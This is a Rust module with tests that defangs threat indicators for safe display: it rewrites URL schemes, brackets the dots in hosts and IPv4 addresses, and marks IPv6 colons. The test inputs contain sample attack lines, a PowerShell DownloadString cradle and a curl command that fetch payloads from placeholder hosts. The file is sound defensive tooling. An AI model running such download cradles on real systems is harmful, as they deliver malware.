//! Indicators made harmless for prose: nobody follows `hxxp://203[.]0[.]113[.]9/a` by a click.

/// The text with its addresses defanged: schemes, the hosts behind them, IPv4 addresses.
pub fn defanged(text: &str) -> String {
    let mut written = String::with_capacity(text.len() + 16);
    let mut rest = text;
    while let Some((before, after)) = cut_at_scheme(rest) {
        written.push_str(&without_addresses(before.head));
        written.push_str(before.scheme);
        let end = after
            .find(|letter: char| letter.is_whitespace() || "/?#\"'<>|\\".contains(letter))
            .unwrap_or(after.len());
        let (host, after) = after.split_at_checked(end).unwrap_or((after, ""));
        written.push_str(&defanged_host(host));
        rest = after;
    }
    written.push_str(&without_addresses(rest));
    written
}

/// What is known to be a host, a URL or an address, with or without a scheme.
pub fn defanged_indicator(text: &str) -> String {
    if text.contains("://") {
        return defanged(text);
    }
    let end = text.find(['/', '?', '#']).unwrap_or(text.len());
    let (host, path) = text.split_at_checked(end).unwrap_or((text, ""));
    format!("{}{path}", defanged_host(host))
}

struct Before<'a> {
    head: &'a str,
    /// As it is written instead.
    scheme: &'static str,
}

/// The first scheme of an address, and what stands on both sides of it.
fn cut_at_scheme(text: &str) -> Option<(Before<'_>, &str)> {
    const SCHEMES: [(&str, &str); 3] = [
        ("https", "hxxps://"),
        ("http", "hxxp://"),
        ("ftp", "fxp://"),
    ];
    for (at, mark) in text.match_indices("://") {
        let (before, after) = text.split_at_checked(at)?;
        let found = SCHEMES.iter().find_map(|(scheme, instead)| {
            let start = before.len().checked_sub(scheme.len())?;
            let (head, tail) = before.split_at_checked(start)?;
            tail.eq_ignore_ascii_case(scheme)
                .then_some((head, *instead))
        });
        if let Some((head, scheme)) = found {
            return Some((Before { head, scheme }, after.get(mark.len()..)?));
        }
    }
    None
}

fn defanged_host(host: &str) -> String {
    let defanged = host.replace('.', "[.]");
    // Of an IPv6 address the first colon is enough; a port behind a name is left alone.
    if host.matches(':').count() > 1 {
        return defanged.replacen(':', "[:]", 1);
    }
    defanged
}

/// Groups of digits with dots between them, where they are four: versions have fewer
/// or are read as addresses, which does no harm.
fn without_addresses(text: &str) -> String {
    let mut written = String::with_capacity(text.len());
    let mut rest = text;
    let part = |letter: char| letter.is_ascii_digit() || letter == '.';
    while let Some(start) = rest.find(|letter: char| letter.is_ascii_digit()) {
        let (before, from) = rest.split_at_checked(start).unwrap_or((rest, ""));
        let end = from
            .find(|letter: char| !part(letter))
            .unwrap_or(from.len());
        let (word, after) = from.split_at_checked(end).unwrap_or((from, ""));
        let address = word.trim_end_matches('.');
        let is_address = address.split('.').count() == 4
            && address.split('.').all(|group| group.parse::<u8>().is_ok());
        written.push_str(before);
        if is_address {
            written.push_str(&address.replace('.', "[.]"));
            written.push_str(word.get(address.len()..).unwrap_or_default());
        } else {
            written.push_str(word);
        }
        rest = after;
    }
    written.push_str(rest);
    written
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_defanged_wherever_they_stand_and_nothing_else() {
        for (text, expected) in [
            ("", ""),
            ("cmd.exe /c whoami", "cmd.exe /c whoami"),
            (
                "(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
                "(New-Object Net.WebClient).DownloadString('hxxp://203[.]0[.]113[.]9/a.ps1')",
            ),
            (
                "curl HTTPS://evil.example.com:8443/x?y=1.2 -o a.exe",
                "curl hxxps://evil[.]example[.]com:8443/x?y=1.2 -o a.exe",
            ),
            ("ping 198.51.100.7.", "ping 198[.]51[.]100[.]7."),
            (
                "build 10.0.19045 and 1.2.3.4.5",
                "build 10.0.19045 and 1.2.3.4.5",
            ),
            ("999.1.1.1", "999.1.1.1"),
            ("file://c/x and ftp://a.b/", "file://c/x and fxp://a[.]b/"),
            ("é://http", "é://http"),
            ("http://[2001:db8::1]/", "hxxp://[2001[:]db8::1]/"),
        ] {
            assert_eq!(defanged(text), expected);
        }
    }

    #[test]
    fn an_indicator_needs_no_scheme() {
        for (text, expected) in [
            ("evil.example/a.php", "evil[.]example/a.php"),
            ("203.0.113.9", "203[.]0[.]113[.]9"),
            ("2001:db8::1", "2001[:]db8::1"),
            ("https://evil.example", "hxxps://evil[.]example"),
        ] {
            assert_eq!(defanged_indicator(text), expected);
        }
    }
}
